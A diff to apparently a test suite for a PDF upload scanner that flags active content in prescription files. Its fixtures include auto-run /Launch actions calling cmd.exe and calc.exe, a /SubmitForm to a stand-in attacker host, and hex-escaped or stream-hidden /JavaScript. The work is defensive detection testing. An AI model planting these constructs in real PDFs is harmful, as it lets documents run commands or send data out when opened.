@@ -19,6 +19,8 @@ describe('checkPrescriptionContent: files that pass', () => {
     ['the test PDF', samplePdf()],
     ['a crafted PDF 1.5', craftedPdf()],
     ['a PDF whose /OpenAction is a destination (first view)', craftedPdf({ catalogExtra: '/OpenAction [3 0 R /Fit]' })],
+    ['a PDF whose /OpenAction refers to a destination, as pdfTeX writes it', craftedPdf({ catalogExtra: '/OpenAction 4 0 R', objects: [{ dictionary: '[3 0 R /Fit]' }] })],
+    ['a PDF whose /OpenAction refers to a GoTo action', craftedPdf({ catalogExtra: '/OpenAction 4 0 R', objects: [{ dictionary: '<< /Type /Action /S /GoTo /D [3 0 R /Fit] >>' }] })],
     ['a PDF with a link (/URI action)', craftedPdf({ objects: [{ dictionary: '<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://medvika.example) >> >>' }] })],
     ['a PDF with binary stream data that spells /JS (length confirmed)', craftedPdf({ objects: [{ dictionary: '<< /Filter /FlateDecode >>', stream: Buffer.from('x/JS /AA (/Launch') }] })],
     ['a PDF with a clean compressed object stream', craftedPdf({ objects: [craftedObjectStream(['<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'])] })],
@@ -36,7 +38,10 @@ describe('checkPrescriptionContent: files that pass', () => {
 describe('checkPrescriptionContent: active PDF content', () => {
   it.each([
     ['/JavaScript in an action', { objects: [{ dictionary: javascriptAction }] }, 'JavaScript'],
-    ['/OpenAction running an action object', { catalogExtra: '/OpenAction 4 0 R', objects: [{ dictionary: '<< /Type /Action /S /GoTo /D [3 0 R /Fit] >>' }] }, 'OpenAction'],
+    ['/OpenAction running a /Launch action object', { catalogExtra: '/OpenAction 4 0 R', objects: [{ dictionary: '<< /Type /Action /S /Launch /F (cmd.exe) >>' }] }, 'Launch'],
+    ['/OpenAction submitting a form', { catalogExtra: '/OpenAction 4 0 R', objects: [{ dictionary: '<< /S /SubmitForm /F (https://evil.example) >>' }] }, 'SubmitForm'],
+    ['/OpenAction opening another PDF', { catalogExtra: '/OpenAction 4 0 R', objects: [{ dictionary: '<< /S /GoToR /F (other.pdf) /D [0 /Fit] >>' }] }, 'GoToR'],
+    ['/OpenAction with a malformed reference', { catalogExtra: '/OpenAction 4 0 Rx' }, 'OpenAction'],
     ['/OpenAction with an inline action', { catalogExtra: '/OpenAction << /S /GoTo /D [3 0 R /Fit] >>' }, 'OpenAction'],
     ['/AA (additional actions) on the catalog', { catalogExtra: '/AA << /WC 4 0 R >>' }, 'AA'],
     ['/Launch', { objects: [{ dictionary: '<< /S /Launch /F (calc.exe) >>' }] }, 'Launch'],
@@ -47,7 +52,7 @@ describe('checkPrescriptionContent: active PDF content', () => {
     ['a hex-escaped /J#61vaScript', { objects: [{ dictionary: '<< /S /J#61vaScript /J#53 (x) >>' }] }, 'JavaScript'],
     ['a fully hex-escaped /#4a#53', { objects: [{ dictionary: '<< /S /#4a#61#76#61#53#63#72#69#70#74 >>' }] }, 'JavaScript'],
     ['/JS hidden in a compressed object stream', { objects: [craftedObjectStream([javascriptAction])] }, 'JavaScript'],
-    ['/OpenAction hidden in a compressed object stream', { objects: [craftedObjectStream(['<< /Type /Catalog /OpenAction 51 0 R >>', '<< /S /GoTo /D [3 0 R] >>'])] }, 'OpenAction'],
+    ['/OpenAction hidden in a compressed object stream', { objects: [craftedObjectStream(['<< /Type /Catalog /OpenAction << /S /Named /N /Print >> >>'])] }, 'OpenAction'],
     ['/JS in a stream whose /Length is indirect (data scanned)', { objects: [{ dictionary: '<< >>', stream: Buffer.from('/JS (x)'), indirectLength: true }] }, 'JS'],
     ['/JS after a literal string that pretends to start a stream', { catalogExtra: '/Lang (>> stream) /Names << /JavaScript 4 0 R >>' }, 'JavaScript'],
     // Strings are scanned too: a reader jumping to objects by the xref table may parse what a lexer took for a string.
